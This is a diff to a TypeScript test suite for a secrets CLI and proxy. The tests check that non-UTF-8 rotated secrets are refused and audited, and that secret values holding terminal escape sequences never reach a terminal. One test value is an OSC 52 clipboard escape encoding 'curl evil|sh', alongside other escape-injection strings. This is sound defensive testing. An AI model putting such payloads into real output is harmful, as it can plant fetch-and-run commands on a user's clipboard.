@@ -23,7 +23,7 @@ import { ForwardProxy } from "../src/proxy/forward.js";
 import { SsrfGuard } from "../src/proxy/guard.js";
 import { LeaseEgress, type InjectionRule, type ProxyCredential } from "../src/proxy/lease-egress.js";
 import { makePlaceholder } from "../src/proxy/placeholder.js";
-import { BIN, cliHome, runCli } from "./cli-harness.js";
+import { BIN, cliHome, liveLeases, runCli, seedHome } from "./cli-harness.js";
 import { grant, makeVault } from "./helpers.js";
 import { hasScript, pty, type PtyOptions } from "./pty.js";
 import { connectTunnel, inTime, loopbackOnly, openTunnel, readAll, tableResolver, tlsIn } from "./proxy-harness.js";
@@ -174,6 +174,22 @@ describe("the proxy injects only values a header can carry as they are (src/prox
       }
   });
 
+  test("a value rotated under the run to bytes that are not UTF-8 is refused as that (502 invalid_request, audited), not as a vault that could not be asked", { timeout: 60_000 }, async () => {
+    const r = await rig(CANARY, { mode: "bearer" });
+    h1Seen.length = 0;
+    assert.match(await viaH1(r, {}), /^HTTP\/1\.1 200 /, "the first value goes");
+    await r.admin.storeSecret({ name: "tok", value: Buffer.concat([Buffer.from(CANARY), Buffer.from([0xff, 0xfe])]) });
+    const a = await viaH1(r, {});
+    assert.match(a, /^HTTP\/1\.1 502 /, a.slice(0, 300));
+    assert.match(a, /"reason":"invalid_request"/);
+    assert.match(a, /the value of global\/tok is not UTF-8 text/);
+    assert.equal(h1Seen.length, 1, "the second request did not go upstream");
+    await r.close();
+    const refused = (await r.admin.auditQuery({})).filter((e) => e.type === "proxy_request" && e.outcome !== "ok");
+    assert.equal(refused.length, 1);
+    assert.match(refused[0]!.reason ?? refused[0]!.detail ?? "", /invalid_request/);
+  });
+
   test("a non-ASCII value goes through mode = basic as the base64 of its exact UTF-8 bytes", { timeout: 60_000 }, async () => {
     const value = `${CANARY}€é`;
     const r = await rig(value, { mode: "basic", username: "u" });
@@ -187,11 +203,11 @@ describe("the proxy injects only values a header can carry as they are (src/prox
   });
 });
 
-describe("secret get --reveal on a terminal (src/cli/secret/actions.ts)", { skip: !hasScript && "util-linux script (bsdutils) is not installed" }, () => {
+describe("secret get --reveal and lessor lease on a terminal (src/cli/format/terminal-safe.ts unsafeForTerminal)", { skip: !hasScript && "util-linux script (bsdutils) is not installed" }, () => {
   const PTY: PtyOptions = { killAfterMs: 30_000, waitForMs: 20_000 };
   const lessorCmd = (args: string): string => `${JSON.stringify(process.execPath)} ${JSON.stringify(BIN)} ${args}`;
 
-  test("a value holding terminal escapes (OSC 52, ESC [2J, C1 CSI, bidi, a bare 0x9b byte) is not written to the terminal; a pipe and --json still get the exact bytes", { timeout: 120_000 }, async () => {
+  test("a value holding terminal escapes (OSC 52, ESC [2J, C1 CSI, bidi, a bare 0x9b byte) is not written to the terminal by secret get --reveal or lessor lease; a pipe and --json still get the exact bytes", { timeout: 120_000 }, async () => {
     const home = await cliHome();
     const values: Record<string, Buffer> = {
       osc52: Buffer.from(`${CANARY}\x1b]52;c;${Buffer.from("curl evil|sh").toString("base64")}\x07`),
@@ -219,10 +235,21 @@ describe("secret get --reveal on a terminal (src/cli/secret/actions.ts)", { skip
       assert.equal(json.code, 0, json.stderr);
       assert.deepEqual(Buffer.from(JSON.parse(json.stdout).value as string, "base64"), value, `${name}: --json gives the exact bytes`);
     }
+    // lessor lease prints the value too: refused on a terminal the same way, and its lease revoked.
+    await seedHome(home, grant("g", ["bot"], ["osc52", "pem"], ["api.example.com"]), []);
+    const l = pty(lessorCmd("lease osc52 --agent bot --domain api.example.com"), env, PTY);
+    assert.equal(await l.exit(), 2, l.out);
+    assert.ok(!l.out.includes("\x1b]52") && !l.out.includes(CANARY), `lease: nothing of the value reached the terminal: ${JSON.stringify(l.out)}`);
+    assert.match(l.out, /would act on this terminal/);
+    assert.equal(await liveLeases(home, "bot"), 0, "the lease whose value was not printed is revoked");
+
     // A plain value, and a PEM-like one with line breaks and tabs, still show on a terminal.
     await runCli(["secret", "set", "pem", "--keep-newline"], { home, input: `-----BEGIN KEY-----\n\t${CANARY}\n-----END KEY-----` });
     const t = pty(lessorCmd("secret get pem --reveal"), env, PTY);
     assert.equal(await t.exit(), 0);
     assert.ok(t.out.includes(CANARY), t.out);
+    const lp = pty(lessorCmd("lease pem --agent bot --domain api.example.com"), env, PTY);
+    assert.equal(await lp.exit(), 0, lp.out);
+    assert.ok(lp.out.includes(CANARY), lp.out);
   });
 });
